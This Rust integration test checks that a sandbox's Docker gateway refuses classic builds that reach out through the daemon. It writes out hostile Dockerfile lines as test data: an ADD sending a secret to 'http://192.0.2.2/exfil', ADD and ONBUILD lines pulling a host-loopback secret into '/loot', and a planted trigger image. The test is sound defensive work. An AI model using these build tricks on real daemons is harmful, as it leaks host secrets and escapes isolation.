//! Classic builds (`DOCKER_BUILDKIT=0 docker build`) through the Docker gateway, on a stock
//! daemon of the test's own (default bridge, iptables on, in the scenario's network
//! namespace). The world namespace holds an origin the project's rules block (192.0.2.2); a
//! service listens on the scenario's loopback, which is the daemon's (the host's loopback, as
//! the daemon sees it), and holds a secret.
//!
//! As the ordinary user, `ocsb exec -- docker …`: a Dockerfile whose `ADD` names the blocked
//! origin (with a secret in the query) or the loopback service is refused by rule `build`,
//! given as a file or on standard input (`-f -`); so is an import that plants an `ONBUILD`
//! trigger, and a build from a base image with triggers (made by root directly on the
//! daemon, as another Docker user could). Host side: the origin and the service log no
//! request, and no file of the daemon's holds the secret. The positive controls: a Dockerfile
//! with `COPY` and `RUN` builds (given as a file, and on standard input), and its image runs.

use crate::suite::docker_gateway::{APPLETS, DOCKERD_STOP, OWN_DOCKERD, docker_scenario};
use crate::support::sandbox::{World, has};

/// The test image of this daemon.
const IMAGE: &str = "ocsb-test-busybox:build";

/// What the loopback service holds.
const SECRET: &str = "HOST-LOOPBACK-SECRET-42";

#[test]
fn a_builds_downloads_and_triggers_are_refused_and_copy_and_run_build() {
    let w = World::new();
    let body = format!(
        r#"{ORIGIN_NS}ip -n "$ON" addr add 192.0.2.2/24 dev ot$$
        ip -n "$ON" route add 172.16.0.0/12 via 192.0.2.254
        SRV=$(mktemp -d); echo origin-page > "$SRV/index.html"; chmod -R a+rX "$SRV"; OL=$(mktemp)
        O python3 -m http.server 80 --bind 0.0.0.0 --directory "$SRV" >"$OL" 2>&1 &
        LOOP=$(mktemp -d); echo {SECRET} > "$LOOP/host-only.txt"; chmod -R a+rX "$LOOP"; LL=$(mktemp)
        python3 -m http.server 8099 --bind 127.0.0.1 --directory "$LOOP" >"$LL" 2>&1 &
        for i in $(seq 100); do
          O ss -Hltn | grep -q '0.0.0.0:80 ' && ss -Hltn | grep -q '127.0.0.1:8099 ' && break; sleep 0.1
        done
        APPLETS="{APPLETS}"; IMAGE={IMAGE}; DOCKERD_FLAGS="--ip-forward=true"; G=1990
        {OWN_DOCKERD}
        printf 'block 192.0.2.2\n' > .opencode-sandbox/local/egress.conf
        printf 'OCSB_NETWORK=isolated\n' >> .opencode-sandbox/local/sandbox.conf; chown -R 1990 .opencode-sandbox/local
        env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$HOME" setpriv --reuid 1990 --regid 1990 --clear-groups -- "$OCSB" egress up >/dev/null 2>&1
        # The controls, as root on the daemon directly: the loopback service answers the daemon's
        # ADD (the image is removed again), and a base image with a trigger (as another Docker
        # user could leave one).
        printf 'FROM {IMAGE}\nADD http://127.0.0.1:8099/host-only.txt /loot\n' \
          | DOCKER_BUILDKIT=0 DOCKER_HOST="$DH" docker build -q -t ocsb-test-control:1 - >/dev/null
        echo "control $(grep -c 'GET /host-only.txt' "$LL") $(DOCKER_HOST="$DH" docker run --rm --network none ocsb-test-control:1 cat /loot)"
        DOCKER_HOST="$DH" docker rmi -f ocsb-test-control:1 >/dev/null
        printf 'FROM {IMAGE}\nONBUILD ADD http://127.0.0.1:8099/host-only.txt /loot\n' \
          | DOCKER_BUILDKIT=0 DOCKER_HOST="$DH" docker build -q -t ocsb-test-trigger:1 - >/dev/null && echo trigger-made
        mkdir blocked loopback trigger good empty
        printf 'FROM {IMAGE}\nADD http://192.0.2.2/exfil?secret=S3CRET /x\n' > blocked/Dockerfile
        printf 'FROM {IMAGE}\nadd \\\n  http://127.0.0.1:8099/host-only.txt /loot\n' > loopback/Dockerfile
        printf 'FROM ocsb-test-trigger:1\nRUN true\n' > trigger/Dockerfile
        echo copied-ok > good/hello.txt
        printf 'FROM {IMAGE}\nCOPY hello.txt /hello.txt\nRUN cat /hello.txt > /copied\n' > good/Dockerfile
        chown -R 1990 blocked loopback trigger good empty
        D 'export DOCKER_BUILDKIT=0
           docker build --no-cache -t ocsb-built-blocked blocked 2>&1 | sed "s/^/blocked: /"
           docker build --no-cache -t ocsb-built-loopback loopback 2>&1 | sed "s/^/loopback: /"
           docker build --no-cache -t ocsb-built-stdin -f - good < loopback/Dockerfile 2>&1 | sed "s/^/stdin: /"
           docker build --no-cache -t ocsb-built-trigger trigger 2>&1 | sed "s/^/trigger: /"
           tar -C empty -c . | docker import --change "ONBUILD ADD http://127.0.0.1:8099/host-only.txt /loot" - ocsb-built-imported 2>&1 | sed "s/^/import: /"
           docker build --no-cache -t ocsb-built-good good 2>&1 | sed "s/^/good: /"
           docker run --rm --network none ocsb-built-good cat /copied | sed "s/^/ran: /"
           docker build --no-cache -t ocsb-built-good-stdin -f - good < good/Dockerfile 2>&1 | sed "s/^/good-stdin: /"'
        echo "images: $(DOCKER_HOST="$DH" docker images -q --filter reference='ocsb-built-*' | wc -l)"
        echo "origin saw $(grep -c 'GET /exfil' "$OL") loopback saw $(grep -c 'GET /host-only.txt' "$LL")"
        echo "secret in the daemon's files: $(grep -rlF {SECRET} "$DD/data" 2>/dev/null | wc -l)"
        {DOCKERD_STOP}ip netns pids "$ON" | xargs -r kill; ip netns del "$ON"
        jobs -p | xargs -r kill; rm -rf "$SRV" "$LOOP" "$OL" "$LL"
        "#,
        ORIGIN_NS = crate::support::sandbox::ORIGIN_NS,
    );
    let (out, err) = docker_scenario(&w, &body);
    has(&out, "trigger-made", &err);
    // Root's build fetched the service once: it answers the daemon.
    has(&out, &format!("control 1 {SECRET}"), &err);
    let rule = "refused by the Docker gateway (rule build)";
    for (case, why) in [
        ("blocked", "ADD http://192.0.2.2/exfil?secret=S3CRET: the daemon downloads it itself"),
        ("loopback", "Dockerfile line 2: ADD http://127.0.0.1:8099/host-only.txt"),
        ("stdin", "ADD http://127.0.0.1:8099/host-only.txt"),
        ("trigger", "the base image ocsb-test-trigger:1 carries ONBUILD triggers"),
        ("import", "an ONBUILD trigger runs in a later build"),
    ] {
        let lines: Vec<&str> = out.lines().filter_map(|l| l.strip_prefix(&format!("{case}: "))).collect();
        assert!(
            lines.iter().any(|l| l.contains(rule) && l.contains(why)),
            "{case}: expected {rule:?} with {why:?}:\n{out}\n{err}"
        );
    }
    // The positive control: COPY and RUN build, and the image runs.
    for case in ["good", "good-stdin"] {
        let built = format!("{case}: Successfully tagged ocsb-built-{case}:latest");
        assert!(out.lines().any(|l| l == built), "{case}: {out}\n{err}");
    }
    has(&out, "ran: copied-ok", &err);
    // Only the good images exist; no request reached the origin or the service after the
    // control; the daemon holds the secret nowhere; no page of theirs reached the agent.
    has(&out, "images: 2", &err);
    has(&out, "origin saw 0 loopback saw 1", &err);
    has(&out, "secret in the daemon's files: 0", &err);
    assert!(!out.contains("origin-page") && !out.contains("Directory listing"), "{out}");
}
